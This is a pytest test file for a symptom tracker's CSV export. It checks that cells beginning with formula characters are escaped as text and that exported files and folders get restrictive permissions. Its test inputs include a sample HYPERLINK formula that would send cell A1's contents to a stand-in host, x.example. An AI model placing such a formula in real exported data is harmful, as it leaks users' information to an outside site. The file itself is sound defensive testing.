"""Issue 13, item 9: CSV cells a spreadsheet would run as formulas, and the chosen folder's
permissions."""

from __future__ import annotations

import csv
import stat
from datetime import timedelta

from tracker.domain.symptoms import SymptomRating
from tracker.services import diary
from tracker.services.exports import csv_export


def test_formula_cells_are_written_as_text(journal, tmp_path, clock):
    notes = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1)", "-2.5", "plain"]
    for i, note in enumerate(notes):
        diary.log_symptoms(journal, [SymptomRating("fatigue", severity=1, note=note)], entered_by=None,
                           occurred_at=clock.now() - timedelta(hours=i + 1), clock=clock)
    out = csv_export.export_csv(journal, tmp_path / "csv")
    cells = set()
    for path in out.glob("*.csv"):
        with open(path, newline="", encoding="utf-8-sig") as fh:
            cells.update(cell for row in csv.reader(fh) for cell in row)
    written = [cell for cell in cells if cell.lstrip("'") in notes]
    assert sorted(written) == sorted(["'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "'+1+1", "'-2+3",
                                      "'@SUM(A1)", "-2.5", "plain"])


def test_safe_cell_leaves_numbers_and_plain_text():
    assert csv_export.safe_cell(-3) == -3
    assert csv_export.safe_cell("-3") == "-3"
    assert csv_export.safe_cell("Tired") == "Tired"
    assert csv_export.safe_cell("=1+1") == "'=1+1"
    assert csv_export.safe_cell("\tcmd") == "'\tcmd"  # leading whitespace is stripped by forms anyway


def test_existing_chosen_folder_keeps_its_permissions(journal, tmp_path):
    chosen = tmp_path / "Documents"
    chosen.mkdir(mode=0o755)
    chosen.chmod(0o755)
    csv_export.export_csv(journal, chosen)
    assert stat.S_IMODE(chosen.stat().st_mode) == 0o755
    assert all(stat.S_IMODE(p.stat().st_mode) == 0o600 for p in chosen.glob("*.csv"))
    new = csv_export.export_csv(journal, tmp_path / "new-folder")
    assert stat.S_IMODE(new.stat().st_mode) == 0o700
